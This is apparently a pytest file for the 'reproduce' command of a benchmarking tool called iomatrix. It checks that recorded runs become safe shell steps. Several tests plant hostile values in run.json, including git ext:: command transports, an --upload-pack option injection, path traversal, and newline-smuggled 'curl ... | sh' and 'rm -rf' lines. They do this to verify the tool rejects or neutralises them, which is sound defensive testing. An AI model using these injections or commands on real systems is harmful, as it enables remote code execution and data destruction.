"""`iomatrix reproduce ID` (issue 47): a result turned back into the steps that measure it again
from a bare machine, and with --run those steps done here and compared with the record. The
matrix lives in a git repository of its own (its commit and path are recorded by the run); the
VMs are faked at the subprocess seam (tests/support/fake_vms.py); tests/container/
test_fresh_machine.py reproduces a real cell in a bare container."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from iomatrix.cli import main as cli
from iomatrix.cli import reproduce_commands
from iomatrix.host import environment, provenance
from iomatrix.model.result import MatrixOrigin
from iomatrix.store import handles
from iomatrix.store.records_io import load_run, write_record
from iomatrix.workflows import reproduce, reproduce_run
from support import fake_vms
from support.agents import Agent
from support.fake_vms import path_kernel_matrix
from support.sessions import write_session


def git(*args: str, cwd: Path) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()


@pytest.fixture
def recorded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> tuple[Path, Path, str]:
    """A run of a two-cell matrix committed in a repository of its own (its origin an https
    address), at 1000 IOPS a repetition, 3 repetitions a cell: its results folder, the run
    folder and the repository's commit."""
    repo = tmp_path / "bench"
    repo.mkdir()
    matrix = path_kernel_matrix(repo, cells=2)
    matrix.write_text(matrix.read_text().replace("name: jobs", "name: jobs\nrepeat: 3"))
    git("init", "-q", cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "the matrix", cwd=repo)
    git("remote", "add", "origin", "https://token:secret@example.invalid/team/bench.git", cwd=repo)
    commit = git("rev-parse", "HEAD", cwd=repo)
    fake_vms.fake_host(tmp_path, monkeypatch)
    monkeypatch.setenv("IOMATRIX_ALLOW_TREES", str(tmp_path))
    monkeypatch.setattr("iomatrix.proc.run", Agent({"": 1000}))
    results = tmp_path / "results"
    assert cli.main(["run", str(matrix), "--results", str(results), "--no-progress"]) == 0
    capsys.readouterr()
    (run_dir,) = [p for p in results.iterdir() if (p / "run.json").is_file()]
    return results, run_dir, commit


def test_a_run_records_where_its_matrix_and_its_code_came_from(
    recorded: tuple[Path, Path, str],
) -> None:
    _results, run_dir, commit = recorded
    record = load_run(run_dir)
    # The remote's address without the token its URL held.
    assert record.matrix_origin == MatrixOrigin(
        repository="https://example.invalid/team/bench.git", commit=commit, path="jobs.yaml"
    )
    assert "secret" not in (run_dir / "run.json").read_text()
    mine, _changed = provenance.iomatrix_commit()
    assert mine is not None
    assert record.environment.iomatrix_commit == mine


def test_the_steps_of_a_cell_from_a_bare_machine_and_what_differs_here(
    recorded: tuple[Path, Path, str],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    results, run_dir, commit = recorded
    record = load_run(run_dir)
    cell = record.cells[1].cell
    here = {**environment.here(), "qemu": "9.9.9", "accelerator": "kvm"}
    monkeypatch.setattr("iomatrix.host.environment.here", lambda: here)
    monkeypatch.setenv("COLUMNS", "200")
    assert cli.main(["reproduce", f"latest/{cell.id[:5]}", "--results", str(results)]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"reproduce cell {cell.label} of run {record.run_id}\n")
    mine = record.environment.iomatrix_commit
    assert f"pipx install git+https://github.com/iomatrix/iomatrix@{mine}" in out
    assert "   iomatrix doctor\n" in out
    assert (
        "git clone --no-checkout --quiet https://example.invalid/team/bench.git "
        "iomatrix-reproduce/matrix" in out
    )
    assert f"checkout --quiet --detach {commit}" in out
    assert f"echo '{record.matrix_sha256}  iomatrix-reproduce/matrix/jobs.yaml'" in out
    assert "iomatrix kernels fetch --matrix-file iomatrix-reproduce/matrix/jobs.yaml" in out
    assert f"iomatrix run iomatrix-reproduce/matrix/jobs.yaml --cell {cell.id}\n" in out
    assert f"iomatrix reproduce {record.run_id}/{cell.id} --run" in out
    # What differs here, said before anything runs.
    assert f"  qemu: recorded {record.environment.qemu}, here 9.9.9" in out
    assert "  accelerator: recorded tcg, here kvm" in out


def test_run_measures_the_cell_again_and_compares_within_its_noise(
    recorded: tuple[Path, Path, str],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    results, run_dir, _commit = recorded
    record = load_run(run_dir)
    cell = record.cells[0].cell
    # The clone comes from where the repository is here (no network in the tests).
    origin = record.matrix_origin
    assert origin is not None
    local = origin.model_copy(update={"repository": str(tmp_path / "bench")})
    write_record(run_dir / "run.json", record.model_copy(update={"matrix_origin": local}))
    monkeypatch.setenv("COLUMNS", "120")
    argv = ["reproduce", f"{record.run_id}/{cell.id}", "--run", "--results", str(results)]
    monkeypatch.setattr("iomatrix.proc.run", Agent({"": 1000}))
    assert cli.main([*argv, "--no-progress"]) == 0
    out = capsys.readouterr().out
    assert " ".join(out.split()).startswith(f"reproduced: cell {cell.label} of run {record.run_id}")
    assert "write_iops" in out
    assert "OUTSIDE" not in out
    assert "note: the noise allows" not in out
    clone = results / ".reproduce" / f"{record.run_id}-{cell.id}" / "matrix"
    assert (clone / "jobs.yaml").is_file()
    again = [p for p in results.iterdir() if (p / "run.json").is_file() and p.name != record.run_id]
    assert len(again) == 1
    assert [e.cell.id for e in load_run(again[0]).cells] == [cell.id]
    # 20% slower now: not the recorded number.
    monkeypatch.setattr("iomatrix.proc.run", Agent({"": 800}))
    assert cli.main([*argv, "--no-progress"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("not reproduced: ")
    assert "OUTSIDE" in out


def test_a_hostile_origin_is_never_used(
    recorded: tuple[Path, Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """A run.json may be a stranger's: git's ext:: transport runs a command, an option as an
    address is read as one, and a path with .. leaves the checkout."""
    results, run_dir, commit = recorded
    record = load_run(run_dir)
    planted = run_dir.parent / "planted"
    for origin in (
        MatrixOrigin(repository=f"ext::sh -c touch% {planted}", commit=commit, path="m.yaml"),
        MatrixOrigin(repository="--upload-pack=touch /tmp/x", commit=commit, path="m.yaml"),
        MatrixOrigin(repository="https://example.invalid/r", commit="HEAD", path="m.yaml"),
        MatrixOrigin(repository="https://example.invalid/r", commit=commit, path="../../m"),
        # Overlong: a command line nobody reads before pasting.
        MatrixOrigin(repository="https://example.invalid/" + "r" * 5000, commit=commit, path="m"),
        MatrixOrigin(repository="https://example.invalid/r", commit=commit, path="m/" * 2000),
    ):
        write_record(run_dir / "run.json", record.model_copy(update={"matrix_origin": origin}))
        argv = ["reproduce", record.run_id, "--results", str(results)]
        for run in ([], ["--run", "--no-progress"]):
            assert cli.main(argv + run) == 2, origin
            assert "iomatrix: error: the recorded" in capsys.readouterr().err
    assert not planted.exists()


def test_another_iomatrix_is_told_to_install_the_recorded_one(
    recorded: tuple[Path, Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    results, run_dir, _commit = recorded
    record = load_run(run_dir)
    other = record.environment.model_copy(update={"iomatrix_commit": "f" * 40})
    write_record(run_dir / "run.json", record.model_copy(update={"environment": other}))
    assert cli.main(["reproduce", "latest", "--run", "--results", str(results)]) == 2
    err = capsys.readouterr().err
    assert f"the result was made by {'f' * 12}: install that one" in err
    assert f"pipx install git+https://github.com/iomatrix/iomatrix@{'f' * 40}" in err


def test_a_session_is_reproduced_by_its_own_ab_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    session = write_session(tmp_path / "results")
    monkeypatch.setenv("COLUMNS", "200")
    assert cli.main(["reproduce", session.name, "--results", str(tmp_path / "results")]) == 0
    out = capsys.readouterr().out
    assert "iomatrix ab /m/test.yaml --split mount_options --alpha 0.05 --equivalence 0.05" in out
    # One pair: the same line for its cell.
    record = json.loads((session / "session.json").read_text())
    base_id, new_id = record["pairs"][1]
    assert (
        cli.main(["reproduce", f"{session.name}/{new_id}", "--results", str(tmp_path / "results")])
        == 0
    )
    assert f"--cell {base_id}" in capsys.readouterr().out


def test_record_text_never_leaves_its_line_and_only_a_commit_is_installed(
    recorded: tuple[Path, Path, str],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The plan is pasted whole (its notes are `# ` comments): a run.json's text with a line
    break made a line of its own, a command; and the pipx line installed any ref the record
    named (pip fetches refs/pull/N/head: a stranger's pull request)."""
    results, run_dir, _commit = recorded
    record = load_run(run_dir)
    env = record.environment.model_copy(
        update={
            "iomatrix_image": "img\ncurl https://evil.invalid/x | sh",
            "iomatrix_commit": "refs/pull/666/head",
            "qemu": "8.2\nrm -rf ~/qemu",
        }
    )
    kernels = {
        spec: info.model_copy(update={"release": "6.1\nrm -rf ~/release"})
        for spec, info in record.kernels.items()
    }
    assert kernels
    hostile = record.model_copy(update={"environment": env, "kernels": kernels})
    write_record(run_dir / "run.json", hostile)
    for columns in ("200", "60"):
        monkeypatch.setenv("COLUMNS", columns)
        assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
        out = capsys.readouterr().out
        starts = [line.lstrip().split(" ")[0] for line in out.splitlines()]
        assert "curl" not in starts, out
        assert "rm" not in starts, out
        pipx = [line for line in out.splitlines() if line.lstrip().startswith("pipx")]
        assert not [line for line in pipx if "refs/" in line]
        assert "refs/pull/666/head" in out  # said, as the record's, in a note
    assert cli.main(["reproduce", "latest", "--run", "--results", str(results)]) == 2
    err = capsys.readouterr().err
    assert "the result was made by refs/pull/66: install that one and run" in err
    assert "pipx" not in err
    assert "iomatrix: qemu: recorded 8.2\\u000arm -rf ~/qemu, here" in err


def test_a_recorded_matrix_path_is_never_an_option(
    recorded: tuple[Path, Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Without a recorded repository the plan names the run's matrix file as it was recorded:
    a run.json's `--allow-tree=/` became an option of the pasted `iomatrix run` line."""
    results, run_dir, _commit = recorded
    record = load_run(run_dir)
    hostile = record.model_copy(update={"matrix_origin": None, "matrix_source": "--allow-tree=/"})
    write_record(run_dir / "run.json", hostile)
    assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
    lines = capsys.readouterr().out.splitlines()
    words = [w for line in lines if not line.lstrip().startswith("#") for w in line.split()]
    assert "--allow-tree=/" not in words
    assert "./--allow-tree=/" in words


def test_a_recorded_word_with_a_line_break_is_no_command_line(
    recorded: tuple[Path, Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """A command's word from a record (its shard, a cell id, a session's metric pattern) is
    quoted, so pasted whole it stays one word; but a line break inside the quotes showed a line
    that reads as a command of its own, for a reader who copies that line."""
    results, run_dir, _commit = recorded
    record = load_run(run_dir)
    write_record(run_dir / "run.json", record.model_copy(update={"shard": "1/2\ncurl x.invalid"}))
    assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert not [line for line in lines if "curl" in line and not line.lstrip().startswith("#")]
    assert [line for line in lines if line.lstrip().startswith("# ") and "curl" in line]


def test_a_band_too_wide_to_say_much_is_said_to_be() -> None:
    """Beside four other jobs on this 2-core host the bare-container reproduction's bands were
    +-27% to +-77%: `reproduced` then only says the number is not far off, and the report says
    so."""
    handle = handles.Handle("run", "r", Path("r"))
    found = reproduce.Plan(handle=handle, what="run r", targets=(), steps=())

    def report(band: float) -> str:
        agreement = reproduce_run.Agreement("cell", "write_iops", 496.0, 539.0, band)
        outcome = reproduce_run.Outcome(folders=(Path("again"),), agreements=(agreement,))
        return reproduce_commands._report(found, outcome, 100)

    assert "note: the noise allows" not in report(0.10)
    assert "note: the noise allows up to +-77.1%" in " ".join(report(0.771).split())
